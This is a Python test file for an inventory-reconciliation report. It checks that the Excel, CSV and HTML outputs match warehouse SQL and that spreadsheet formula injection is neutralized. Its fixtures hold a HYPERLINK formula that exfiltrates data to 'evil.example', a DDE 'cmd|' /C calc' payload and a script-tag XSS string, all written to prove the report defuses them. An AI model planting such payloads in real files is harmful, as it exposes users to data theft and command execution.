"""The finance report: numbers equal SQL over the warehouse, formula injection stays text, HTML
is self-contained and renders in headless Chromium."""

from __future__ import annotations

import csv
import datetime as dt
import doctest
import os
import pathlib
import re
import shutil
import subprocess
import xml.etree.ElementTree as ET
import zipfile

import duckdb
import polars as pl
import pytest

from invrecon.pipelines import report
from invrecon.pipelines.report import DETAIL_COLUMNS, charts, cli, common, csvfile, data, neutralize, page, workbook
from tests.conftest import RUN_DATE, WORLD, warehouse
from tests.test_warehouse import D3, three_day_runs

HYPERLINK = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for details")'
INJECTED = {  # sku -> description written into a copy of the items master
    "SKU000016": HYPERLINK,
    "SKU000013": "<script>alert(1)</script> & co",
    "SKU000026": "@SUM(1+1)*cmd|' /C calc'!A0",
    "SKU000033": "\t=1+1",
    "SKU000019": "-2+3",
}
NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main", "r": "http://schemas.openxmlformats.org/officeDocument/2006/relationships"}


# ----------------------------------------------------------------------------- pure parts


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "＝1", HYPERLINK])
def test_neutralize_prefixes_formula_starts(text):
    assert neutralize(text) == "'" + text


@pytest.mark.parametrize("text", ["SKU-1", "DC01", "a=b", " =1", "", None, "'=already"])
def test_neutralize_leaves_other_text_alone(text):
    assert neutralize(text) == text


@pytest.mark.parametrize("module", [report, charts, cli, common, csvfile, data, page, workbook], ids=lambda m: m.__name__)
def test_doc_examples(module):
    assert doctest.testmod(module).failed == 0


def test_line_chart_scales_into_the_plot():
    g = report.line_chart(["a", "b", "c"], [("s", [1.0, 0.5, None])], width=200, height=100, lo=0.0, hi=1.0)
    (s,) = g["series"]
    assert [(d["x"], d["y"]) for d in s["dots"]] == [(48.0, 12.0), (102.0, 38.0)]
    assert charts.ira_floor([0.973, 0.99]) == 0.96 and charts.ira_floor([0.5]) == 0.2 and charts.ira_floor([None]) == 0.96


# ----------------------------------------------------------------------------- the committed run


def _xlsx(path: pathlib.Path) -> dict[str, dict]:
    """Read an .xlsx with the standard library: sheet -> {"xml", "cells": {ref: (type, value)}, "rows"}."""
    z = zipfile.ZipFile(path)
    shared = []
    if "xl/sharedStrings.xml" in z.namelist():
        for si in ET.fromstring(z.read("xl/sharedStrings.xml")).findall("m:si", NS):
            shared.append("".join(t.text or "" for t in si.iter(f"{{{NS['m']}}}t")))
    rels = {r.get("Id"): r.get("Target") for r in ET.fromstring(z.read("xl/_rels/workbook.xml.rels"))}
    styles_xml = ET.fromstring(z.read("xl/styles.xml"))
    codes = {int(f.get("numFmtId")): f.get("formatCode") for f in styles_xml.iter(f"{{{NS['m']}}}numFmt")}
    formats = [codes.get(int(xf.get("numFmtId")), "General") for xf in styles_xml.find("m:cellXfs", NS)]
    out = {}
    for sheet in ET.fromstring(z.read("xl/workbook.xml")).find("m:sheets", NS):
        target = rels[sheet.get(f"{{{NS['r']}}}id")]
        xml = z.read(f"xl/{target}").decode()
        cells, rows, styles = {}, {}, {}
        for c in ET.fromstring(xml).iter(f"{{{NS['m']}}}c"):
            ref, kind, v = c.get("r"), c.get("t", "n"), c.find("m:v", NS)
            styles[ref] = formats[int(c.get("s", 0))]
            if kind == "s":
                value = shared[int(v.text)]
            elif kind == "inlineStr":
                value = "".join(t.text or "" for t in c.iter(f"{{{NS['m']}}}t"))
            else:
                value = float(v.text) if v is not None else None
            cells[ref] = (kind, value)
            col, row = re.match(r"([A-Z]+)(\d+)", ref).groups()
            rows.setdefault(int(row), {})[col] = value
        width = max((len(r) for r in rows.values()), default=0)
        letters = [chr(65 + i) if i < 26 else "A" + chr(65 + i - 26) for i in range(max(width, 26) + 26)]
        table = [[rows[r].get(letters[i]) for i in range(max(len(rows[r]) for r in rows) if rows else 0)] for r in sorted(rows)]
        sheet_rels = f"xl/worksheets/_rels/{target.rsplit('/', 1)[-1]}.rels"
        tables = []
        if sheet_rels in z.namelist():
            for rel in ET.fromstring(z.read(sheet_rels)):
                if rel.get("Target").startswith("../tables/"):
                    tables.append(ET.fromstring(z.read("xl/tables/" + rel.get("Target").rsplit("/", 1)[-1])))
        out[sheet.get("name")] = {"xml": xml, "cells": cells, "rows": table, "styles": styles, "tables": tables}
    out["_styles"] = {"xml": z.read("xl/styles.xml").decode(), "formats": set(codes.values())}
    out["_workbook"] = {"xml": z.read("xl/workbook.xml").decode()}
    return out


def _run_report(config: pathlib.Path, run_date: str, output: pathlib.Path, dest: pathlib.Path, *extra: str) -> int:
    return report.main(["--config", str(config), "--run-date", run_date, "--output", str(output), "--report-dir", str(dest), *extra])


@pytest.fixture(scope="module")
def injected(committed_run, tmp_path_factory) -> dict:
    """The committed run reported with an items master whose descriptions attack a spreadsheet."""
    world = tmp_path_factory.mktemp("injected") / "world"
    shutil.copytree(WORLD, world, ignore=shutil.ignore_patterns("out", "inputs"))
    items = pl.read_csv(world / "master" / "items.csv", infer_schema=False)
    items = items.with_columns(pl.Series("description", [INJECTED.get(s, d) for s, d in zip(items["sku"], items["description"])]))
    items.write_csv(world / "master" / "items.csv")
    dest = world.parent / "report"
    assert _run_report(world / "config.yaml", RUN_DATE, committed_run, dest) == 0
    html = (dest / f"discrepancy_report_{RUN_DATE}.html").read_text()
    return {
        "html": html,
        "data_docs": re.search(r'<a class="docs" href="([^"]*)"', html)[1],
        "xlsx": _xlsx(dest / f"discrepancy_report_{RUN_DATE}.xlsx"),
        "csv": list(csv.reader((dest / f"discrepancies_{RUN_DATE}.csv").open(newline="", encoding="utf-8-sig"))),
        "csv_bytes": (dest / f"discrepancies_{RUN_DATE}.csv").read_bytes(),
        "world": world,
        "dir": dest,
        "con": warehouse(committed_run),
    }


def _sql_totals(con) -> dict:
    # The warehouse's money is DECIMAL(18,4); the report's cells are floats.
    gross, net, ugross, unet, n = con.execute("""
        SELECT round(sum(abs(value_delta)), 2)::DOUBLE, round(sum(value_delta), 2)::DOUBLE,
               round(sum(abs(value_delta)) FILTER (WHERE class IN ('missing_in_other', 'missing_in_record', 'qty_mismatch')), 2)::DOUBLE,
               round(sum(value_delta) FILTER (WHERE class IN ('missing_in_other', 'missing_in_record', 'qty_mismatch')), 2)::DOUBLE,
               count(*)
        FROM discrepancies WHERE snapshot_date = DATE '2026-11-30' AND class <> 'oversell_risk'""").fetchall()[0]
    return {"gross": gross, "net": net, "ugross": ugross, "unet": unet, "rows": n}


def _summary(book: dict) -> dict:
    return {r[0]: r[1] for r in book["Summary"]["rows"] if r and isinstance(r[0], str) and len(r) > 1}


def test_xlsx_summary_equals_sql(injected):
    con = injected["con"]
    want = _sql_totals(con)
    got = _summary(injected["xlsx"])
    assert got["Value at stake, gross Σ|value| (USD)"] == pytest.approx(want["gross"], abs=1e-9)
    assert got["Value at stake, net Σ value (USD)"] == pytest.approx(want["net"], abs=1e-9)
    assert got["Unexplained value, gross (USD)"] == pytest.approx(want["ugross"], abs=1e-9)
    assert got["Unexplained value, net (USD)"] == pytest.approx(want["unet"], abs=1e-9)
    assert got["Discrepancies (excl. oversell risk)"] == want["rows"]
    keys, exact, tol = con.execute("""
        SELECT count(*),
               count(*) FILTER (WHERE NOT EXISTS (SELECT 1 FROM discrepancies d WHERE d.sku = s.sku AND d.location = s.location
                                                  AND d.class NOT IN ('oversell_risk', 'in_transit') AND d.delta <> 0)),
               count(*) FILTER (WHERE NOT EXISTS (SELECT 1 FROM discrepancies d WHERE d.sku = s.sku AND d.location = s.location
                                                  AND d.class IN ('missing_in_other', 'missing_in_record', 'qty_mismatch')))
        FROM inventory_snapshot s""").fetchall()[0]
    assert got["IRA strict"] == round(exact / keys, 4) and got["IRA within tolerance"] == round(tol / keys, 4)
    assert got["Alerts fired"] == con.execute("SELECT count(*) FROM alerts").fetchall()[0][0] == 2
    assert got["Oversell risk units"] == con.execute("SELECT sum(delta) FROM discrepancies WHERE class = 'oversell_risk'").fetchall()[0][0]


def test_xlsx_detail_has_numbers_filters_frozen_header_and_currency(injected):
    book = injected["xlsx"]
    detail = book["Detail"]
    header, *rows = detail["rows"]
    assert header == [h for _, h, _ in DETAIL_COLUMNS]
    con = injected["con"]
    assert len(rows) == con.execute("SELECT count(*) FROM discrepancies").fetchall()[0][0]
    col = {name: i for i, (name, _, _) in enumerate(DETAIL_COLUMNS)}
    assert sum(r[col["value_delta"]] or 0 for r in rows) == pytest.approx(con.execute("SELECT sum(value_delta)::DOUBLE FROM discrepancies").fetchall()[0][0], abs=1e-6)
    assert sum(r[col["delta"]] for r in rows) == con.execute("SELECT sum(delta) FROM discrepancies").fetchall()[0][0]
    kinds = {ref: k for ref, (k, _) in detail["cells"].items()}
    assert kinds["K2"] == "n" and kinds["R2"] == "n" and kinds["B2"] == "s"  # record_qty, value_delta, sku
    assert re.search(r'<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>', detail["xml"])
    assert '"$"#,##0.00' in book["_styles"]["xml"].replace("&quot;", '"')
    assert [k for _, _, k in DETAIL_COLUMNS].count("money") == 2
    money = [workbook.currency_format("USD")]
    assert {detail["styles"][f"{c}2"] for c in "QR"} == set(money)  # unit cost, value delta
    for name in ("By location", "By location and class", "Accuracy", "Alerts"):
        assert 'state="frozen"' in book[name]["xml"], name


def test_xlsx_sheets_tables_and_print_setup(injected):
    book = injected["xlsx"]
    assert [n for n in book if not n.startswith("_")] == list(workbook.SHEETS)
    assert {"Oversell", "Aging", "Data quality", "Glossary"} <= set(book)
    for name in workbook.SHEETS:
        xml = book[name]["xml"]
        assert re.search(r'<pageSetup [^>]*orientation="landscape"', xml) and '<pageSetUpPr fitToPage="1"/>' in xml, name
        assert 'fitToHeight="0"' in xml, name  # one page wide, as many pages down as it takes
        if name != "Summary":
            assert re.search(rf"<definedName name=\"_xlnm.Print_Titles\" localSheetId=\"\d+\">'?{name}'?!\$1:\$1</definedName>",
                             book["_workbook"]["xml"]), name
            table = book[name]["tables"][0]
            assert table.get("ref").startswith("A1:") and table.find("m:autoFilter", NS) is not None, name
            headers = [c.get("name") for c in table.find("m:tableColumns", NS)]
            assert headers == book[name]["rows"][0][:len(headers)], name
    detail = book["Detail"]["tables"][0]
    assert detail.get("name") == "Detail" and detail.get("ref") == f"A1:X{len(book['Detail']['rows'])}"
    assert [t.get("name") for t in book["Data quality"]["tables"]] == ["DataQuality", "Quarantine"]
    assert [t.get("name") for t in book["Aging"]["tables"]] == ["Aging", "AgingBuckets"]
    assert [t.get("name") for t in book["Summary"]["tables"]] == ["ByClass"]
    header, *rows = book["Glossary"]["rows"]
    assert header[:2] == ["Class", "Counts as"] and [r[0] for r in rows] == list(common.GLOSSARY)
    header, *rows = book["Oversell"]["rows"]
    con = injected["con"]
    assert [(r[0], r[header.index("Excess units")]) for r in rows] == con.execute(
        "SELECT sku, excess_units FROM oversell_risk ORDER BY excess_units DESC, sku").fetchall()
    header, *rows = book["Data quality"]["rows"]
    assert sorted(r[0] for r in rows if r[0]) == sorted(s for (s,) in con.execute("SELECT source FROM dq_trend").fetchall())


def test_xlsx_number_formats_have_no_trailing_point_and_money_keeps_its_currency(injected):
    book = injected["xlsx"]
    # `#,##0.##` shows 5 as "5." in Excel: no format may end its digits with an optional fraction.
    assert not [f for f in book["_styles"]["formats"] if re.search(r"\.#", f)]
    assert {"#,##0;[Red]-#,##0", "#,##0.00", workbook.currency_format("USD")} <= book["_styles"]["formats"]
    header, *rows = book["By location"]["rows"]
    money_cols = [i for i, (_, _, kind) in enumerate(workbook.LOCATION_COLUMNS) if kind == "money"]
    quiet = [n for n, r in enumerate(rows, start=2) if r[header.index("Gross value")] == 0]
    assert quiet, "the committed world has a location without value at stake"
    for n in range(2, len(rows) + 2):
        for i in money_cols:
            assert book["By location"]["styles"][f"{chr(65 + i)}{n}"] == workbook.currency_format("USD"), (n, header[i])
    assert all(r[header.index("Currency")] == "USD" for r in rows)
    tol = DETAIL_COLUMNS.index(("tolerance", "Tolerance", "num"))
    assert book["Detail"]["styles"][f"{chr(65 + tol)}2"] == "#,##0.00"


def test_lineage_is_relative_to_the_config_folder(injected):
    header, *rows = injected["xlsx"]["Detail"]["rows"]
    lineage = [v for r in rows for v in (r[header.index("Record lineage")], r[header.index("Other lineage")]) if v]
    assert lineage and not [v for v in lineage if v.startswith("/") or "; /" in v]
    raw = {v for (v,) in injected["con"].execute("SELECT record_lineage FROM discrepancies WHERE record_lineage IS NOT NULL").fetchall()}
    want = {data.relative_lineage(v, str(injected["world"])) for v in raw}
    assert {r[header.index("Record lineage")] for r in rows if r[header.index("Record lineage")]} == want
    some = next(iter(raw)).rsplit(":", 1)[0]
    assert (injected["world"] / os.path.relpath(some, injected["world"])).resolve() == pathlib.Path(some).resolve()
    csv_header, *csv_rows = injected["csv"]
    assert {r[csv_header.index("record_lineage")] for r in csv_rows if r[csv_header.index("record_lineage")]} == want


def test_csv_has_a_utf8_bom(injected):
    assert injected["csv_bytes"].startswith(b"\xef\xbb\xbfsnapshot_date,")
    assert injected["csv_bytes"].count(b"\xef\xbb\xbf") == 1


def test_report_totals_are_the_value_variance_views(committed_run):
    """The report's value at stake per currency is the warehouse's `value_variance` view, summed
    over locations: one SQL (`discrepancy_sql.VALUE_SUMS`) for both, so they cannot drift."""
    con = warehouse(committed_run)
    data = report.gather(con, dt.date.fromisoformat(RUN_DATE))
    names = ("rows", "gross_value", "net_value", "unexplained_gross_value", "unexplained_net_value")
    view = con.execute(f"""
        SELECT currency, sum(rows)::BIGINT, {", ".join(f"round(sum({n}), 2)::DOUBLE" for n in names[1:])}
        FROM value_variance WHERE snapshot_date = DATE '{RUN_DATE}' GROUP BY currency""").fetchall()
    want = {r[0]: dict(zip(names, r[1:])) for r in view}
    assert want and {t["currency"]: {n: t[n] for n in names} for t in data.totals} == want
    assert sum(t["rows"] for t in data.totals) == _sql_totals(con)["rows"]


def test_by_location_sheet_equals_value_variance(injected):
    header, *rows = injected["xlsx"]["By location"]["rows"]
    got = {r[0]: (r[header.index("Gross value")], r[header.index("Net value")], r[header.index("Unexplained gross value")]) for r in rows}
    want = {loc: (g, n, u) for loc, g, n, u in injected["con"].execute(
        "SELECT location, gross_value::DOUBLE, net_value::DOUBLE, unexplained_gross_value::DOUBLE FROM value_variance").fetchall()}
    assert {k: v for k, v in got.items() if k in want} == want
    assert all(v == (0, 0, 0) for k, v in got.items() if k not in want)


def test_injected_descriptions_stay_text_in_xlsx(injected):
    book = injected["xlsx"]
    for name, sheet in book.items():
        assert "<f>" not in sheet["xml"] and "<f " not in sheet["xml"], f"a formula in {name}"
    header, *rows = book["Detail"]["rows"]
    desc = {r[1]: r[2] for r in rows}
    assert desc["SKU000016"] == "'" + HYPERLINK
    assert desc["SKU000026"] == "'" + INJECTED["SKU000026"]
    assert desc["SKU000033"] == "'\t=1+1"
    assert desc["SKU000019"] == "'-2+3"
    assert desc["SKU000013"] == INJECTED["SKU000013"]  # not a formula start: as it is
    refs = [ref for ref, (kind, value) in book["Detail"]["cells"].items() if value == "'" + HYPERLINK]
    assert refs and all(book["Detail"]["cells"][r][0] == "s" for r in refs)


def test_injected_descriptions_are_neutralized_in_csv_and_numbers_match(injected):
    header, *rows = injected["csv"]
    assert header == [name for name, _, _ in DETAIL_COLUMNS]
    col = {name: i for i, name in enumerate(header)}
    desc = {r[col["sku"]]: r[col["description"]] for r in rows}
    assert desc["SKU000016"] == "'" + HYPERLINK and desc["SKU000033"] == "'\t=1+1" and desc["SKU000019"] == "'-2+3"
    text_cols = [i for i, (_, _, kind) in enumerate(DETAIL_COLUMNS) if kind == "text"]
    for r in rows:
        for i in text_cols:
            assert not r[i].startswith(("=", "+", "-", "@", "\t", "\r")), r[i]
    con = injected["con"]
    assert sum(float(r[col["value_delta"]] or 0) for r in rows) == pytest.approx(con.execute("SELECT sum(value_delta)::DOUBLE FROM discrepancies").fetchall()[0][0], abs=1e-6)
    assert sum(int(r[col["delta"]]) for r in rows) == con.execute("SELECT sum(delta) FROM discrepancies").fetchall()[0][0]


def test_html_is_escaped_self_contained_and_shows_the_sql_numbers(injected):
    html = injected["html"]
    assert "&lt;script&gt;alert(1)&lt;/script&gt; &amp; co" in html
    lowered = html.lower()
    for banned in ("<script", "<link", "<img", "<iframe", " src=", "url(", "@import"):
        assert banned not in lowered, banned
    assert set(re.findall(r' href="([^"]*)"', html)) <= {injected["data_docs"]}  # its only links go to the Data Docs
    want = _sql_totals(injected["con"])
    assert f"USD {want['gross']:,.2f}" in html and f"USD {want['net']:,.2f}" in html and f"USD {want['ugross']:,.2f}" in html
    top = injected["con"].execute("""
        SELECT sku, value_delta, record_lineage FROM discrepancies
        WHERE class <> 'oversell_risk' AND delta <> 0 ORDER BY abs(value_delta) DESC LIMIT 20""").fetchall()
    section = html[html.index('id="top"'):html.index('id="trend"')]
    assert section.count("<tr>") == len(top) + 1
    positions = [section.index(f"<td>{sku}</td>") for sku, _, _ in top]
    assert positions == sorted(positions)
    for _, value, lineage in top:
        assert f"{value:,.2f}" in section
        if lineage:
            path, locator = lineage.rsplit(":", 1)
            assert f'title="{os.path.relpath(path, injected["world"])}"' in section and locator in section
    assert html.count("<svg") == 4


def test_the_report_links_the_run_in_the_data_docs(injected, committed_run):
    link = injected["data_docs"]
    assert link == f"{os.path.relpath(committed_run / 'data_docs' / 'index.html', injected['dir'])}#run-{RUN_DATE}"
    assert injected["html"].count(f'href="{link}"') == 2  # the header and the data-quality section
    page, _, anchor = link.partition("#")
    index = (injected["dir"] / page).resolve()
    assert index.is_file() and f'id="{anchor}"' in index.read_text()


def test_alerts_jsonl_written_beside_the_report(injected):
    lines = (injected["dir"] / "alerts.jsonl").read_text().splitlines()
    assert len(lines) == 2 and '"rule": "oversell_units_per_sku"' in lines[0]


@pytest.fixture(scope="module")
def screenshot(injected, tmp_path_factory) -> pathlib.Path:
    browser = next((b for b in ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable") if shutil.which(b)), None)
    if browser is None:
        pytest.skip("no headless Chromium on PATH (Debian: apt-get install chromium)")
    tmp = tmp_path_factory.mktemp("chromium")
    png = tmp / "report.png"
    page = injected["dir"] / f"discrepancy_report_{RUN_DATE}.html"
    proc = subprocess.run(
        [shutil.which(browser), "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
         "--disable-component-update", "--no-first-run", "--disable-sync", f"--user-data-dir={tmp / 'profile'}",
         f"--screenshot={png}", "--window-size=1280,2000", page.as_uri()],
        capture_output=True, text=True, timeout=120,
    )
    assert proc.returncode == 0, proc.stderr[-2000:]
    return png


def test_html_renders_in_headless_chromium(screenshot):
    data = screenshot.read_bytes()
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    width, height = int.from_bytes(data[16:20], "big"), int.from_bytes(data[20:24], "big")
    assert (width, height) == (1280, 2000)
    assert len(data) > 50_000  # a blank page compresses to a few kB


# ----------------------------------------------------------------------------- several runs


def test_report_over_three_runs_shows_the_accuracy_trend_and_ages(tmp_path_factory, tmp_path):
    runs = three_day_runs(tmp_path_factory)
    dest = tmp_path / "r"
    assert _run_report(runs["world"] / "config.yaml", str(D3), runs["in_order"], dest, "--format", "html,xlsx") == 0
    assert not (dest / f"discrepancies_{D3}.csv").exists()
    book = _xlsx(dest / f"discrepancy_report_{D3}.xlsx")
    header, *rows = book["Accuracy"]["rows"]
    con = warehouse(runs["in_order"])
    want = con.execute("""
        SELECT sum(keys), round(sum(exact_keys) / sum(keys), 4), round(sum(within_tolerance_keys) / sum(keys), 4)
        FROM inventory_record_accuracy GROUP BY snapshot_date ORDER BY snapshot_date""").fetchall()
    assert [(r[1], r[4], r[5]) for r in rows] == want and len(want) == 3
    assert [dt.date(1899, 12, 30) + dt.timedelta(days=r[0]) for r in rows] == [dt.date(2026, 11, 28), dt.date(2026, 11, 29), D3]
    html = (dest / f"discrepancy_report_{D3}.html").read_text()
    assert "last 3 runs" in html and html.count("<circle") == 6
    oldest = html[html.index('id="aging"'):html.index('id="accuracy"')]
    sku, loc = runs["keys"]["A"]
    assert re.search(rf"<td>{sku}</td><td>{loc} · wms</td>.*?<td>2026-11-28</td><td class=\"num\">2</td>", oldest, re.S)


def test_report_cli_errors(injected, committed_run, tmp_path, world_copy, capsys):
    cfg = WORLD / "config.yaml"
    assert _run_report(cfg, RUN_DATE, committed_run, tmp_path, "--format", "pdf") == 2
    assert "--format 'pdf'" in capsys.readouterr().err
    assert _run_report(cfg, "2026-13-01", committed_run, tmp_path) == 2
    assert _run_report(cfg, "2026-12-25", committed_run, tmp_path) == 4
    assert "no run for 2026-12-25" in capsys.readouterr().err
    assert _run_report(cfg, RUN_DATE, tmp_path / "nowhere", tmp_path) == 4
    assert "no warehouse" in capsys.readouterr().err
    bad = world_copy / "config.yaml"
    bad.write_text(bad.read_text().replace("oversell_units_per_sku: 5", "oversell_units_per_sku: lots"))
    assert _run_report(bad, RUN_DATE, committed_run, tmp_path) == 2
    assert "`alerts.oversell_units_per_sku` must be a number" in capsys.readouterr().err
    assert report.main(["--config", str(cfg)]) == 2


def test_a_run_that_did_not_succeed_is_flagged(committed_run):
    data = report.gather(warehouse(committed_run), dt.date.fromisoformat(RUN_DATE))
    assert "did not succeed" not in report.render_html(data)
    data.run = {**data.run, "status": "dq_failed", "message": "erp_nightly: row count <b>dropped</b>"}
    html = report.render_html(data)
    assert "This run did not succeed (dq_failed)." in html and "&lt;b&gt;dropped&lt;/b&gt;" in html


def _since_previous(con, dates: list[dt.date]) -> dict[dt.date, tuple[int, int, float]]:
    """Per run date: (new rows, carried-over rows, gross value), computed here in plain SQL."""
    out = {}
    for i, day in enumerate(dates):
        prev = dates[i - 1] if i else None
        out[day] = tuple(con.execute("""
            SELECT count(*) FILTER (WHERE p.sku IS NULL), count(*) FILTER (WHERE p.sku IS NOT NULL), round(sum(abs(CAST(d.value_delta AS DOUBLE))), 2)
            FROM discrepancies d LEFT JOIN discrepancies p
              ON p.snapshot_date = ? AND (p.sku, p.location, p.other_system, p.class) = (d.sku, d.location, d.other_system, d.class)
            WHERE d.snapshot_date = ? AND d.class <> 'oversell_risk'""", [prev, day]).fetchall()[0])
    return out


def test_report_over_three_runs_shows_the_value_trend_new_and_carried_over(tmp_path_factory, tmp_path):
    runs = three_day_runs(tmp_path_factory)
    dest = tmp_path / "r"
    assert _run_report(runs["world"] / "config.yaml", str(D3), runs["in_order"], dest) == 0
    con = warehouse(runs["in_order"])
    dates = [dt.date(2026, 11, 28), dt.date(2026, 11, 29), D3]
    want = _since_previous(con, dates)
    assert want[dates[0]][1] == 0 and want[D3][1] > 0 and want[D3][0] > 0  # the world has both on D3
    book = _xlsx(dest / f"discrepancy_report_{D3}.xlsx")
    header, *rows = book["Trend"]["rows"]
    col = {h: i for i, h in enumerate(header)}
    got = {dt.date(1899, 12, 30) + dt.timedelta(days=r[0]): (r[col["New"]], r[col["Carried over"]], r[col["Gross value"]]) for r in rows}
    assert got == {d: (n, c, pytest.approx(g, abs=1e-9)) for d, (n, c, g) in want.items()}
    by_view = dict(con.execute("SELECT snapshot_date, round(sum(CAST(gross_value AS DOUBLE)), 2) FROM value_variance GROUP BY 1").fetchall())
    assert {d: g for d, (_, _, g) in got.items()} == pytest.approx(by_view, abs=0.011)
    # The planted keys: A is open on every date (carried over on D3), B was closed on D2 (new again on D3).
    header, *rows = book["Detail"]["rows"]
    since = {(r[header.index("SKU")], r[header.index("Location")], r[header.index("Other system")]): r[header.index("New or carried over")] for r in rows}
    assert since[(*runs["keys"]["A"], "wms")] == "carried over" and since[(*runs["keys"]["B"], "wms")] == "new"
    summary = _summary(book)
    assert summary["New: discrepancies, gross value (USD)"] == pytest.approx(
        con.execute("SELECT round(sum(abs(CAST(d.value_delta AS DOUBLE))), 2) FROM discrepancies d WHERE snapshot_date = ? AND class <> 'oversell_risk' "
                    "AND NOT EXISTS (SELECT 1 FROM discrepancies p WHERE p.snapshot_date = ? AND p.sku = d.sku AND p.location = d.location "
                    "AND p.other_system = d.other_system AND p.class = d.class)", [D3, dates[1]]).fetchall()[0][0] or 0, abs=1e-9)
    resolved = con.execute("""
        SELECT count(*) FROM discrepancies p WHERE snapshot_date = ? AND class <> 'oversell_risk' AND NOT EXISTS (
            SELECT 1 FROM discrepancies d WHERE d.snapshot_date = ? AND (p.sku, p.location, p.other_system, p.class) = (d.sku, d.location, d.other_system, d.class))""",
                           [dates[1], D3]).fetchall()[0][0]
    html = (dest / f"discrepancy_report_{D3}.html").read_text()
    trend = html[html.index('id="trend"'):html.index('id="aging"')]
    assert "last 3 runs: new and carried over" in trend and trend.count('<rect class="col"') == sum(1 for n, c, _ in want.values() for x in (n, c) if x)
    for day, (n, c, g) in want.items():
        assert re.search(rf"<td>{day}</td><td class=\"num\">{n + c:,}</td><td class=\"num\">{g:,.2f}</td>", trend), day
    n, c, _ = want[D3]
    assert f"New since {dates[1]}" in html and f"{n} new · {c} carried over" in html and f"{resolved} resolved" in html
    top = html[html.index('id="top"'):html.index('id="trend"')]
    for key, badge in (("A", '<span class="badge">carried over</span>'), ("B", '<span class="badge new">new</span>')):
        sku, loc = runs["keys"][key]
        row = re.search(rf"<tr><td class=\"muted\">\d+</td><td>{sku}</td><td>[^<]*</td><td>{loc}</td><td>wms</td>.*?</tr>", top, re.S)
        assert row and badge in row[0], key


def test_top_says_n_of_m(committed_run):
    data = report.gather(warehouse(committed_run), dt.date.fromisoformat(RUN_DATE), top_n=3)
    html = report.render_html(data)
    m = warehouse(committed_run).execute("SELECT count(*) FROM discrepancies WHERE class <> 'oversell_risk' AND delta <> 0").fetchall()[0][0]
    assert m > 3 and len(data.top) == 3 and data.top_total == m
    assert f"<h2>Top 3 of {m} discrepancies by absolute value</h2>" in html and f"the first 3 shown (all {m} are in" in html
    section = html[html.index('id="top"'):html.index('id="trend"')]
    assert section.count("<tr>") == 4
    full = report.render_html(report.gather(warehouse(committed_run), dt.date.fromisoformat(RUN_DATE)))
    assert f"<h2>Top {m} of {m} discrepancies by absolute value</h2>" in full and "Top 20" not in full


def test_net_caption_glossary_at_the_top(injected):
    html = injected["html"]
    assert "book minus other" not in html and "other systems minus book, netted: negative = the book holds more" in html
    glossary = html.index('id="glossary"')
    assert glossary < html.index('class="cards"') < html.index('id="by-location"')
    section = html[glossary:html.index('class="cards"')]
    assert "Sign convention." in section and "the other system&#39;s quantity − the book&#39;s (record system) quantity" in section
    for klass in common.GLOSSARY:
        assert f">{klass}</span>" in section, klass
    footer = html[html.index("<footer>"):]
    assert "Unexplained" not in footer and "never nets" not in footer


def test_report_reads_a_warehouse_with_decimal_money_and_enum_classes(committed_run, tmp_path):
    """The warehouse may type money DECIMAL(18,4) and class as an ENUM: the same report comes out."""
    from invrecon.pipelines.warehouse_views import SCHEMAS, VIEWS

    wh, mem = warehouse(committed_run), duckdb.connect()
    mem.execute(f"CREATE TYPE discrepancy_class AS ENUM ({', '.join(repr(c) for c in common.GLOSSARY)})")
    for table in SCHEMAS:
        mem.register("src", wh.sql(f"SELECT * FROM {table}").to_arrow_table())
        replace = ("REPLACE (CAST(unit_cost AS DECIMAL(18,4)) AS unit_cost, CAST(value_delta AS DECIMAL(18,4)) AS value_delta, "
                   "CAST(class AS discrepancy_class) AS class)") if table == "discrepancies" else ""
        mem.execute(f"CREATE TABLE {table} AS SELECT * {replace} FROM src")
        mem.unregister("src")
    for name, sql in VIEWS.items():
        mem.execute(f"CREATE VIEW {name} AS {sql}")
    (money, klass), = mem.execute("SELECT typeof(value_delta), typeof(class) FROM discrepancies LIMIT 1").fetchall()
    assert money == "DECIMAL(18,4)" and klass.startswith("ENUM(")
    day = dt.date.fromisoformat(RUN_DATE)
    plain, typed = report.gather(wh, day), report.gather(mem, day)
    assert typed.totals == plain.totals and typed.by_location == plain.by_location and typed.value_trend == plain.value_trend
    assert [r["value_delta"] for r in typed.detail] == [r["value_delta"] for r in plain.detail]
    assert report.render_html(typed, generated=dt.datetime(2026, 12, 1)) == report.render_html(plain, generated=dt.datetime(2026, 12, 1))
    report.write_xlsx(typed, str(tmp_path / "typed.xlsx"))
    assert _summary(_xlsx(tmp_path / "typed.xlsx"))["Value at stake, net Σ value (USD)"] == plain.totals[0]["net_value"]
